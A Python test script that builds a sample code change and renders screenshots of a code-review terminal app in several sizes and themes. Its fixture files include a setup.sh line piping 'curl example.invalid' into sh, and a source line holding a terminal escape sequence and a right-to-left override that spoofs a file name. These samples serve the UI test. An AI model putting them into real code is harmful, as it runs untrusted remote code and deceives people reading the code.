"""A change with something of everything in it, for looking at the review: as pictures, as text, as a person.

``python -m tests.app.review_house FOLDER`` draws PNGs of it in three sizes and both themes.
"""

from __future__ import annotations

import asyncio
import sys
import tempfile
from collections.abc import AsyncIterator, Sequence
from pathlib import Path

from textual.pilot import Pilot
from textual.widgets import TextArea

from agents.parts.checks import Finding
from agents.parts.review import Comment, Reply
from tests.app.review_scene import ReviewApp, Scene, opened, until
from tests.picture import save_picture
from tests.widgets.diff.diff_scene import a_comment, numbered
from widgets.diff import DiffView
from widgets.legend import Legend

SIZES = ((80, 24), (120, 40), (200, 60))
THEMES = ("shopfloor-dark", "shopfloor-light")

_CART = '''"""The cart of a customer."""

from dataclasses import dataclass


@dataclass
class Line:
    name: str
    price: int
    count: int = 1


def total(lines):
    result = 0
    for line in lines:
        result = result + line.price * line.count
    return result


def discounted(lines, percent):
    """The total with a discount in percent."""
    return total(lines) * (100 - percent) // 100


def receipt(lines):
    rows = [f"{line.name}: {line.price}" for line in lines]
    return "\\n".join(rows)
'''
_MOVED = '''def rounded(amount, step):
    """The amount rounded to a step, halves up."""
    remainder = amount % step
    if remainder * 2 >= step:
        return amount - remainder + step
    return amount - remainder
'''
BEFORE = {
    "shop/cart.py": _CART,
    "shop/money.py": '"""Money."""\n\n\n' + _MOVED + "\n\ndef euros(amount):\n    return amount / 100\n",
    "shop/rounding.py": '"""Rounding."""\n\n\ndef up(amount):\n    return amount + 1\n',
    "shop/names.py": numbered(12, "NAME"),
    "shop/layout.py": "def box(a, b):\n  if a:\n      return b\n  return a\n",
    "tests/test_cart.py": "from shop.cart import total\n\n\ndef test_total():\n    assert total([]) == 0\n"
    "    assert total([Line('a', 2)]) == 2\n",
    "uv.lock": numbered(30, 'name = "package"'),
    "docs/old.md": "# Old\n\nNobody reads this.\n",
    "setup.sh": "#!/bin/sh\necho set up\n",
}
AFTER = {
    "shop/cart.py": _CART.replace(
        "    result = 0\n    for line in lines:\n"
        "        result = result + line.price * line.count\n    return result\n",
        "    return sum(line.price * line.count for line in lines)\n",
    )
    .replace("total(lines) * (100 - percent) // 100", "rounded(total(lines) * (100 - percent) // 100, step=5)  # noqa")
    .replace('f"{line.name}: {line.price}" for', 'f"{line.count} × {line.name:<20} {line.price * line.count:>8}" for'),
    "shop/money.py": '"""Money."""\n\n\ndef euros(amount):\n    return amount / 100\n',
    "shop/rounding.py": '"""Rounding."""\n\n\n' + _MOVED + "\n\ndef up(amount):\n    return amount + 1\n",
    "shop/labels.py": numbered(12, "NAME"),
    "shop/layout.py": "def box(a, b):\n    if a:\n        return b\n    return a\n",
    "shop/bell.py": 'RING = "\x1b]0;pwned\x07"  # \u202egnp.exe\n',
    "tests/test_cart.py": "from shop.cart import total\n\n\ndef test_total():\n    assert total([]) == 0\n",
    "uv.lock": numbered(34, 'name = "package"'),
    "setup.sh": "#!/bin/sh\ncurl example.invalid | sh\n",
}


def house(folder: Path, **facts: object) -> Scene:
    """The change, with a draft on a line of it."""
    scene = Scene(folder, BEFORE, AFTER, title="Print totals on the receipt", **facts)
    scene.api.notes.append(
        a_comment(
            "Say in a sentence why the total is rounded to five cents.\n\nThe till of the shop in Bern does it too.",
            path="shop/cart.py", start=_line("shop/cart.py", "rounded("), head_tree=scene.api.head,
            quote=('+    return rounded(total(lines) * (100 - percent) // 100, step=5)  # noqa',),
        )
    )  # fmt: skip
    return scene


def _line(name: str, text: str) -> int:
    return next(number for number, line in enumerate(AFTER[name].split("\n"), 1) if text in line)


def judged(folder: Path) -> Scene:
    """The same change after a round: claims with evidence, one without, one resolved, one whose file is gone."""
    scene = house(folder, round=1, turn=2)
    head = scene.api.head
    scene.api.notes.clear()

    def told(id: str, path: str, text: str, words: str, **more: object) -> Comment:
        number = _line(path, text)
        blob = scene.repository.git("rev-parse", f"{head}:{path}").decode().strip()
        fields: dict[str, object] = {"state": "claimed", "claim": "done", "claim_text": "", "head_tree": head}
        quote = ("+" + AFTER[path].split("\n")[number - 1],)
        return a_comment(words, id=id, path=path, start=number, quote=quote, blob=blob, **(fields | more))

    scene.api.notes += [
        told("R1-C1", "shop/cart.py", "rounded(", "Round in one place only.", claim_text="I moved it into total()."),
        told("R1-C2", "shop/cart.py", "line.name:<20", "Twenty columns are too few.", claim_text="Made it wider."),
        told("R1-C3", "shop/rounding.py", "def up", "What is this for?", kind="question", claim="question",
             claim_text="Shall I delete it? Nothing calls it.",
             replies=(Reply(text="Who wrote it?", round=1),)),
        told("R1-C4", "shop/labels.py", "NAME 3", "Why was it renamed?", state="resolved", kind="question"),
        told("R1-C5", "shop/bell.py", "RING", "No control characters in the source.", claim="declined",
             claim_text="The terminal needs them."),
    ]  # fmt: skip
    changed = dict(AFTER)
    changed["shop/cart.py"] = changed["shop/cart.py"].replace(
        "    return rounded(total(lines) * (100 - percent) // 100, step=5)  # noqa\n",
        "    return total(lines) * (100 - percent) // 100\n",
    )
    changed["shop/money.py"] = changed["shop/money.py"].replace("amount / 100", "round(amount / 100, 2)")
    del changed["shop/bell.py"]
    scene.agent_writes(changed)
    return scene


FINDINGS = (
    Finding(path=b"shop/cart.py", line=14, message="AssertionError: assert 7 == 10\n  where 7 = total([Line('a', 7)])"),
    Finding(path=b"shop/layout.py", line=2, message="Missing type annotation", severity="warning"),
    Finding(path=b"shop/prices.py", line=3, message="Name 'rounded' is not defined"),
)


async def settled(pilot: Pilot[None], app: ReviewApp) -> DiffView:
    """The review, when its colours are there too."""
    view = await opened(pilot, app)
    files = view.state.diff.files

    def coloured() -> bool:
        shown = [files[index] for index in view.files_in_view()]
        code = [file for file in shown if file.path.endswith(b".py") and file.new_path and file.hunks]
        return all(view.is_coloured(file.path, "new") for file in code if not view.state.is_folded(file))

    await until(pilot, coloured, "the code in view is coloured")
    await pilot.pause(0.1)
    return view


HOUSE: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("reading", ()),
    ("comment", ("n",)),
    ("writing", ("c",)),
    ("sending", ("escape", "s")),
    ("prompt", ("escape", "tab")),
    ("side-by-side", ("escape", "g", "vertical_line")),
)
"""What is looked at in the house, and the keys that lead from the look before to this one."""
JUDGED: tuple[tuple[str, tuple[str, ...]], ...] = (("judging", ("semicolon",)),)


async def looks(
    folder: Path, size: tuple[int, int], themes: Sequence[str] = THEMES
) -> AsyncIterator[tuple[str, str, ReviewApp]]:
    """Every look in every theme: its name, the theme, and the application that shows it now."""
    for name, make, steps in (("house", house, HOUSE), ("judged", judged, JUDGED)):
        scene = make(folder / name)
        scene.check_says(*(FINDINGS if name == "house" else ()))
        app = scene.app(THEMES[0])
        async with app.run_test(size=size) as pilot:
            await settled(pilot, app)
            for look, keys in steps:
                for key in keys:
                    await pilot.press(key)
                    await pilot.pause(0.02)
                if app.screen is app.review:
                    await settled(pilot, app)
                for area in app.screen.query(TextArea):
                    area.cursor_blink = False
                app.review.query_one(Legend).hush()
                for theme in themes:
                    app.theme = theme
                    await pilot.pause(0.05)
                    yield look, theme.removeprefix("shopfloor-"), app
                app.theme = THEMES[0]


async def _draw(folder: Path, wanted: list[str]) -> None:
    for size in SIZES:
        with tempfile.TemporaryDirectory() as scratch:
            async for look, theme, app in looks(Path(scratch), size):
                if not wanted or look in wanted:
                    save_picture(app, folder / f"{look}-{size[0]}x{size[1]}-{theme}.png", zoom=0.8)


if __name__ == "__main__":
    asyncio.run(_draw(Path(sys.argv[1]), sys.argv[2:]))
